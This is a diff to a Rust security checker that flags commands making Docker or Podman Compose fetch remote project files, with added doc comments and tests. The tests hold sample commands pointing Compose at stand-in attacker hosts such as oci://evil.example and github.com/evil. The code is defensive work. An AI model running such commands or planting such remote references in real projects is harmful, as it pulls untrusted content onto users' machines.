@@ -56,7 +56,8 @@ declare_check! {
     ///   and `ls`) with a project file (the default names, `-f`, `COMPOSE_FILE` in `.env`, and
     ///   the local files they include) that `include`s or `extends` a remote resource (a git
     ///   repository, `oci://`) or an address made from the environment: Compose fetches it
-    ///   while the project loads, the person's variables in the address;
+    ///   while the project loads, the person's variables in the address; or with `-f` naming
+    ///   a remote resource itself (`-f oci://…`);
     /// - pulumi (but `version` and help) with a `Pulumi.yaml` naming the `backend`: logging
     ///   in sends the person's `PULUMI_ACCESS_TOKEN` to that URL;
     /// - shellcheck that both follows `source` to any file (`-x`, `external-sources=true`) and
@@ -1166,8 +1167,9 @@ const COMPOSE_FILES: [&str; 8] = [
 ];
 
 /// Compose (`docker compose`, `podman compose`, `docker-compose`) run in `dir`: a project file
-/// (`-f FILE`, `COMPOSE_FILE` in the project's `.env`, or the default names in the project
-/// directory or the nearest parent holding one) that `include`s or `extends` a remote resource
+/// named by `-f` that is itself a remote resource (`-f oci://…`, `-f https://…/x.git`), or a
+/// project file (`-f FILE`, `COMPOSE_FILE` in the project's `.env`, or the default names in the
+/// project directory or the nearest parent holding one) that `include`s or `extends` a remote resource
 /// (a git repository, `oci://`), or an address interpolated from the environment. Compose's
 /// remote loaders (on unless `--offline`) fetch it with `git ls-remote`/`git fetch` or from the
 /// registry while the project loads, for `ps`, `logs`, `config --services` alike, the
@@ -1208,6 +1210,11 @@ fn compose_remote(base: &str, u: &Unit, dir: &Path, w: &LineWrites) -> Option<St
         if let Some(f) = value("--file", Some("-f")) {
             if f.contains(['$', '`']) {
                 return Some("Compose reads a project file named at run time: it may include remote resources Compose fetches".to_owned());
+            }
+            if compose_remote_reference(f) {
+                return Some(format!(
+                    "`{f}` is a remote project file (a git repository, an OCI artifact) Compose fetches while it loads the project"
+                ));
             }
             files.push(resolve(f, dir));
         } else if let Some(d) = value("--project-directory", None) {
@@ -4129,6 +4136,17 @@ mod tests {
         assert!(flagged(root, "docker compose --file=\"$F\" ps").is_some());
         write(root, ".env", "COMPOSE_FILE=other/evil.yml\n");
         assert!(flagged(root, "docker compose ps").is_some());
+        std::fs::remove_file(root.join(".env")).unwrap_or_else(|e| panic!("{e}"));
+        // A project file that is itself remote: Compose fetches it.
+        for cmd in [
+            "docker compose -f oci://evil.example/app:latest ps",
+            "docker compose --file=https://github.com/evil/x.git config --services",
+            "docker-compose -f git@github.com:evil/x.git ps",
+            "podman compose -f oci://evil.example/app images",
+        ] {
+            assert!(flagged(root, cmd).is_some(), "{cmd}");
+        }
+        assert_eq!(flagged(root, "docker compose -f compose.yaml ps"), None);
     }
 
     #[test]
